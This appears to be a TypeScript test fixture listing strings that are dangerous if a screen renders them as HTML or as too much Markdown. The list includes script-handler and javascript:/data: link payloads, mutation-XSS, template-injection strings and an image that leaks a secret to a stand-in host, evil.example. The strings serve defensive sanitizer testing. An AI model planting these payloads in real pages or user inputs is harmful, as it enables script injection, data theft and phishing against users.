/** Texts that would do harm on a screen that drew them as HTML, or as more Markdown than it should. */
export const payloads = [
  `<img src=x onerror="alert('image')">`,
  `<script>alert('script')</script>`,
  `<svg/onload=alert('svg')>`,
  `"><iframe srcdoc="<script>parent.alert('frame')</script>"></iframe>`,
  `[click me](javascript:alert('link'))`,
  `[click me](JaVa\tScRiPt:alert('tab'))`,
  `[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `![pixel](https://evil.example/pixel.png?secret=1)`,
  `[our help](https://evil.example/login) and <https://evil.example/auto> and https://evil.example/bare`,
  `[our help](//evil.example/relative) [ref][1]\n\n[1]: https://evil.example/reference`,
  `</textarea></style></title><math><mtext><style><img src=x onerror=alert('mutation')>`,
  `<a href="https://evil.example" onmouseover="alert('over')" style="position:fixed;inset:0">x</a>`,
  '```html\n<img src=x onerror=alert(1)>\n```\n| a | b |\n|---|---|\n| <b onclick=alert(2)>x</b> | [y](vbscript:z) |',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it tries
  '{{constructor.constructor("alert(3)")()}} ${alert(4)} <%= alert(5) %>',
  '\u202Egnp.exe [^1] [^99] [^-1] [^1](https://evil.example/footnote)',
]
